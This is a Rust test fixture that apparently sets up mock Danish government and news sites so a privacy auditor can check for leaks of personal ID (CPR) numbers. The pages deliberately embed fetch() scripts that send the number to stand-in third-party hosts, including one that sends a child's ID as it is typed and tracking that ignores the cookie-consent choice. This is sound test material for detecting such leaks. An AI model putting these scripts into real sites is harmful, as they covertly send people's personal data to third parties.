//! What is audited: a self-service behind a log-in, with forms, and a news site that asks for consent. Short pages, so that an
//! audit takes some 20 seconds, and of each kind of thing that a crawl must not lose by being cut short.

use sites::{HostedSite, Received, Reply};

use crate::kit::NOW;
use crate::kit::served::Served;

/// Signed in to by a journey.
pub(crate) const SELF_SERVICE: &str = "selv.borger.test";

/// Asks for consent.
const NEWS: &str = "www.nyt.test";

/// Another citizen's: declared nowhere, so it is told as a token that must outlive a kill.
pub(crate) const UNDECLARED: &str = "0707614285";

/// Who gets what they should not.
const THIRD_PARTIES: [&str; 5] =
    ["maaling.eksempel.test", "www.nabo.test", "trods.prove.test", "lydig.taeller.test", "efter.reklame.test"];

const JOURNEY: &str = r##"{"title": "Log ind", "steps": [
    {"type": "navigate", "url": "https://selv.borger.test/login"},
    {"type": "click", "target": "main", "selectors": ["#ind"], "offsetX": 4, "offsetY": 4,
        "assertedEvents": [{"type": "navigation", "url": "https://selv.borger.test/", "title": ""}]}]}"##;

const REGISTRY: &str = r#"
[[vendor]]
id = "v"
name = "Leverandøren"

[[system]]
id = "selv"
name = "Selvbetjening"
vendor = "v"
base_urls = ["https://selv.borger.test/"]
environment = "test"
submit = "test-system"
owner = "Byen"
journeys = [{ file = "ind.json", role = "borger" }]
must_visit = ["/profil"]

[[system]]
id = "nyt"
name = "Nyheder"
vendor = "v"
base_urls = ["https://www.nyt.test/"]
environment = "test"
owner = "Byen"
"#;

/// The sites, and a registry that declares them.
pub(crate) fn served() -> Served {
    let mut sites = vec![HostedSite::new(SELF_SERVICE, self_service), HostedSite::new(NEWS, news)];
    sites.extend(THIRD_PARTIES.map(|host| HostedSite::new(host, third_party)));
    let served = Served::start(sites);
    served.bench.write("cprvagt.toml", REGISTRY);
    served.bench.write("ind.json", JOURNEY);
    served
}

/// An audit of all of it, that goes on where it was.
pub(crate) fn arguments(served: &Served) -> Vec<&str> {
    let audit = ["audit", "--now", NOW, "--pause", "0s", "--tabs", "3", "--resume", "journal"];
    let mut arguments = served.arguments(&audit);
    // Every name leads to the sites, so the one step outside may be taken.
    arguments.retain(|argument| *argument != "--loopback-only");
    arguments
}

fn self_service(received: &Received) -> Reply {
    let is_in = received.cookie("s").is_some_and(|session| session == "ja");
    let form = |fields: &str| format!("<form method=post action=/ansoegning/{fields}<button>Næste</button></form>");
    match (received.method.as_str(), received.path()) {
        ("POST", "/ind") => Reply::redirect("/").with_header("Set-Cookie", "s=ja; Path=/; Secure; HttpOnly"),
        (_, "/login") => page("Log ind", "<form action=/ind method=post><button id=ind>Log ind</button></form>"),
        _ if !is_in => Reply::redirect("/login"),
        (_, "/") => signed_in("Oversigt", "<a href=/sag>Sag</a> <a href=/profil>Profil</a>"),
        (_, "/sag") => signed_in("Sag", &format!("{} <a href=/blanketter>Blanketter</a>", sends("sag", UNDECLARED))),
        (_, "/profil") => signed_in(
            "Profil",
            &format!(
                "<a href='mailto:post@borger.test?subject=Sag%20{UNDECLARED}'>Skriv</a>\
                 <script>document.title = 'Profil {UNDECLARED}'; localStorage.setItem('borger', '{UNDECLARED}')</script>"
            ),
        ),
        (_, "/blanketter") => signed_in("Blanketter", "<a href=/opslag>Opslag</a> <a href=/ansoegning>Ansøgning</a>"),
        (_, "/opslag") => signed_in(
            "Opslag",
            "<form action=/opslag/svar><label>CPR-nummer <input name=cpr inputmode=numeric></label><button>Vis</button></form>",
        ),
        (_, "/opslag/svar") => signed_in(
            "Svar",
            "<a href=https://www.nabo.test/kort>Se kortet</a>\
             <script>fetch('https://maaling.eksempel.test/vist?paa=' + location.href, {mode: 'no-cors'})</script>",
        )
        .with_header("Referrer-Policy", "unsafe-url"),
        ("POST", "/ansoegning/1") => Reply::redirect("/ansoegning/trin-2"),
        ("POST", "/ansoegning/2") => Reply::redirect("/ansoegning/kvittering"),
        (_, "/ansoegning") => signed_in(
            "Ansøgning",
            &(form("1><label>Barnets CPR-nummer <input id=barn name=barn_cpr inputmode=numeric></label>")
                + "<script>barn.oninput = () => barn.value.length > 9 && fetch('https://maaling.eksempel.test/tastet?barn=' \
                   + barn.value, {mode: 'no-cors'})</script>"),
        ),
        (_, "/ansoegning/trin-2") => {
            signed_in("Ansøgning, trin 2", &form("2><label>Bemærkninger <input name=bemaerkning></label>"))
        }
        (_, "/ansoegning/kvittering") => signed_in("Kvittering", &sends("kvittering", UNDECLARED)),
        _ => Reply::not_found(),
    }
}

/// Asks in Danish; each third party keeps to the answer as its maker pleases.
fn news(received: &Received) -> Reply {
    let (title, links) = match received.path() {
        "/" => ("Nyt", "<a href=/vejr>Vejr</a> <a href=/sundhed/laege>Læge</a> <a href=/kultur/musik/i-dag>Musik</a>"),
        "/vejr" => ("Vejr", ""),
        "/sundhed/laege" => ("Læge", ""),
        "/kultur/musik/i-dag" => ("Musik", ""),
        _ => return Reply::not_found(),
    };
    let send = |host: &str| format!("fetch('https://{host}/s?cpr={UNDECLARED}', {{mode: 'no-cors'}});");
    let (always, unless_no, after_yes) =
        (send("trods.prove.test"), send("lydig.taeller.test"), send("efter.reklame.test"));
    page(
        title,
        &format!(
            "<p>{links}</p><div id=cookies role=dialog style='position:fixed;bottom:0'><p>Vi bruger cookies til \
             statistik.</p><button onclick=\"svar('ja')\">Accepter alle</button>\
             <button onclick=\"svar('nej')\">Kun nødvendige</button></div>\
             <script>const svar = (valg) => {{ document.cookie = 'valg=' + valg + ';path=/;Secure'; cookies.remove(); }};\
             const valg = /valg=(\\w+)/.exec(document.cookie)?.[1]; if (valg) document.getElementById('cookies').remove();\
             {always} if (valg !== 'nej') {{ {unless_no} }} if (valg === 'ja') {{ {after_yes} }}</script>"
        ),
    )
}

fn third_party(received: &Received) -> Reply {
    if received.path() == "/kort" { page("Kort", "") } else { Reply::no_content() }
}

fn signed_in(title: &str, body: &str) -> Reply {
    page(title, &format!("{body} <a href=/logud>Log ud</a>"))
}

fn page(title: &str, body: &str) -> Reply {
    Reply::html(format!(
        "<!doctype html><html lang=da><meta charset=utf-8><link rel=icon href='data:,'><title>{title}</title><h1>{title}</h1>{body}"
    ))
}

/// A script that sends `number` to whom it is none of the business of.
fn sends(name: &str, number: &str) -> String {
    format!("<script>fetch('https://maaling.eksempel.test/{name}?cpr={number}', {{mode: 'no-cors'}})</script>")
}
